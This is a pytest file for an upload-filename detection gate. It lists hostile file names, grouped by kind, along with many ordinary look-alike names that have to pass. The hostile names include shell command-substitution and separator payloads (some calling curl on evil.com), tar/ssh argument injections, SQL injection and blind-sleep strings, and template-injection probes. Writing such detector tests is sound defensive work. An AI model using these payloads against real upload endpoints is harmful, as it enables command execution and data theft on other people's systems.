"""The name of an uploaded file is weighed like any value that an app may run or store."""

from __future__ import annotations

import pytest

from tests.detection.differential import FRAMEWORKS, gates, receives
from tests.detection.places.sent import MULTIPART, Sent, multipart_of, named_of, part_of

GATES = gates()
KINDS = {
    "substitution": [
        "$(sleep 5).png",
        "$(whoami).jpg",
        "$(id)",
        "a$(curl evil.com).png",
        "$(touch x)",
        "$(cat${IFS}x).png",
    ],
    "backticks": ["`id`.png", "x`sleep 5`.png", "`touch x`.jpg"],
    "separator": [
        "a&&id&&.png",
        "x.png&id",
        "a.png&&curl evil.com",
        "x.png & id",
        "a;sleep 5;.png",
        "a|id|.png",
    ],
    "variable": ["${IFS}", "a$IFS$9b.png"],
    "arguments of programs": [
        "--use-compress-program=id",
        "--checkpoint-action=exec=sh x.sh",
        "-oProxyCommand=id",
        "--to-command=sh",
    ],
    "SQL without quotes": [
        "(select(0)from(select(sleep(5)))v)",
        "1 UNION SELECT password FROM users",
        "1 OR 1=1",
        "1 AND 1=(SELECT 1 FROM pg_sleep(5))",
        "1,sleep(5)",
        "if(now()=sysdate(),sleep(5),0).png",
    ],
    "template": ["{{config}}.png", "{{7*7}}.png", "${7*7}.png"],
}
HARMLESS = [
    *(
        "Q&A (final).png",
        "Rock & Roll.mp3",
        "report$(1).pdf",
        "Copy of budget (1).xlsx",
        "100%.png",
        "a;b.csv",
        "--draft.txt",
        "-1.png",
    ),
    *(
        "C:\\Users\\x\\pic.jpg",
        "Select a plan.pdf",
        "R&D && Sales.docx",
        "O'Brien's CV.pdf",
        "~$Document1.docx",
        "$RECYCLE.BIN",
        "Main$1.class",
    ),
    *(
        "{3F2504E0-4F89-11D3-9A0C-0305E82C3301}.png",
        "${name}.txt",
        "{{ cookiecutter.name }}.zip",
        "Find & Replace.docx",
        "copy&paste.gif",
    ),
    *(
        "Union Select Committee.pdf",
        "Delete from cart.png",
        "update users set.sql",
        "drop table.sql",
        "1 or 2 pages.pdf",
        "x=1, y=2.csv",
    ),
    *(
        "`notes`.txt",
        "Notes `draft`.md",
        "Ich & Du; wir.pdf",
        "Smith, J. & Doe, A. (2020).pdf",
        "Top 10; or less.pdf",
        "id & passport.pdf",
    ),
    *(
        "phpinfo (1).txt",
        "id_rsa (1)",
        ".env (1)",
        ".env",
        "web.config (old).txt",
        "sleep (5).png",
        "eval.py",
        "print(1).txt",
        "a|b.txt",
    ),
    *(
        "50% off & more!.png",
        "C# (basics) -- part 1.pdf",
        "a -- b.mp3",
        "page.php?id=1&name=x.html",
        "100%25.png",
        "Bj\u00f6rk \u2013 J\u00f3ga (live).mp3",
    ),
    *(
        "Screenshot 2024-01-01 at 10.00.00.png",
        "[draft] plan.docx",
        "head&shoulders.png",
        "Echo & the Bunnymen.mp3",
        "PHP & MySQL.pdf",
    ),
]


def _upload(name: str, field: str = "photo") -> Sent:
    said = name.replace('"', "%22")
    part = part_of(
        named_of(f'; filename="{said}"', field) + "\r\nContent-Type: image/png", b"\x89PNG"
    )
    return Sent("files", multipart_of(part), MULTIPART)


@pytest.mark.parametrize("framework", FRAMEWORKS)
@pytest.mark.parametrize("kind", KINDS)
def test_an_attack_in_the_name_of_a_file_is_refused(kind: str, framework: str) -> None:
    for name in KINDS[kind]:
        assert receives(framework, _upload(name), name), name
        assert GATES[framework](_upload(name)), name


@pytest.mark.parametrize("framework", FRAMEWORKS)
def test_a_name_that_people_give_their_files_passes(framework: str) -> None:
    assert [name for name in HARMLESS if GATES[framework](_upload(name))] == []


@pytest.mark.parametrize("field", ["code", "password", "body", "command", "source"])
def test_the_field_of_a_file_does_not_excuse_its_name(field: str) -> None:
    assert GATES["flask"](_upload("$(touch x).png", field))
    assert not GATES["flask"](_upload("Q&A (final).png", field))
